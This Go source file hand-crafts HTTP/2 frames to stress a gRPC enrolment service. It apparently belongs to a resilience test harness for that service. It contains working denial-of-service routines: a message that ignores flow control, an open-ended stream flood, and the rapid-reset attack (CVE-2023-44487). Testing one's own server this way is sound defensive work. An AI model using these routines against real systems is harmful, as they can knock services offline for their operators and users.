package main

import (
	"context"
	"encoding/binary"
	"errors"
	"net"
)

// An attacker need not keep to HTTP/2 (RFC 9113) as libraries do, so these are its frames by hand.
const (
	preface     = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
	frameData   = 0
	frameHeader = 1
	frameReset  = 3
	frameConfig = 4
	endHeaders  = 4
)

func frame(kind, flags byte, stream uint32, payload []byte) []byte {
	b := []byte{byte(len(payload) >> 16), byte(len(payload) >> 8), byte(len(payload)), kind, flags}
	return append(binary.BigEndian.AppendUint32(b, stream), payload...)
}

// request is the header block of a call to Enroll, with the static table of HPACK (RFC 7541, appendix A) and no Huffman.
func request() []byte {
	b := []byte{0x83, 0x87} // :method POST, :scheme https
	literal := func(prefix []byte, value string) {
		b = append(append(append(b, prefix...), byte(len(value))), value...)
	}
	literal([]byte{0x04}, "/muster.enrolment.v1.EnrolmentService/Enroll")
	literal([]byte{0x01}, "x")
	literal([]byte{0x0f, 0x10}, "application/grpc")
	literal([]byte{0x00, 2, 't', 'e'}, "trailers")
	return b
}

// begin is a connection that speaks HTTP/2 and listens to nothing.
func begin(ctx context.Context, conn net.Conn) (net.Conn, error) {
	c := secure(conn)
	if err := c.HandshakeContext(ctx); err != nil {
		return nil, err
	}
	go func() { _ = untilCut(c); _ = conn.Close() }()
	_, err := c.Write(append([]byte(preface), frame(frameConfig, 0, 0, nil)...))
	return c, err
}

// hugeMessage sends a message of 5 MiB, whatever window it is given.
func hugeMessage(ctx context.Context, conn net.Conn, _ target) error {
	c, err := begin(ctx, conn)
	if err != nil {
		return err
	}
	const size = 5 << 20
	first := append(frame(frameHeader, endHeaders, 1, request()), frame(frameData, 0, 1, binary.BigEndian.AppendUint32([]byte{0}, size))...)
	if _, err := c.Write(first); err != nil {
		return err
	}
	part := frame(frameData, 0, 1, make([]byte, 16<<10))
	for sent := 0; sent < size; sent += 16 << 10 {
		if _, err := c.Write(part); err != nil {
			return err
		}
	}
	return errors.New("it took all")
}

// streamFlood opens streams for as long as it may, and says nothing on any of them.
func streamFlood(ctx context.Context, conn net.Conn, _ target) error {
	return flood(ctx, conn, func(stream uint32) []byte { return frame(frameHeader, endHeaders, stream, request()) })
}

// rapidReset takes each stream back at once (CVE-2023-44487).
func rapidReset(ctx context.Context, conn net.Conn, _ target) error {
	return flood(ctx, conn, func(stream uint32) []byte {
		return append(frame(frameHeader, endHeaders, stream, request()), frame(frameReset, 0, stream, []byte{0, 0, 0, 8})...)
	})
}

func flood(ctx context.Context, conn net.Conn, open func(uint32) []byte) error {
	c, err := begin(ctx, conn)
	if err != nil {
		return err
	}
	for stream := uint32(1); stream < 1<<31-64; {
		var many []byte
		for range 32 {
			many = append(many, open(stream)...)
			stream += 2
		}
		if _, err := c.Write(many); err != nil {
			return err
		}
	}
	return nil
}
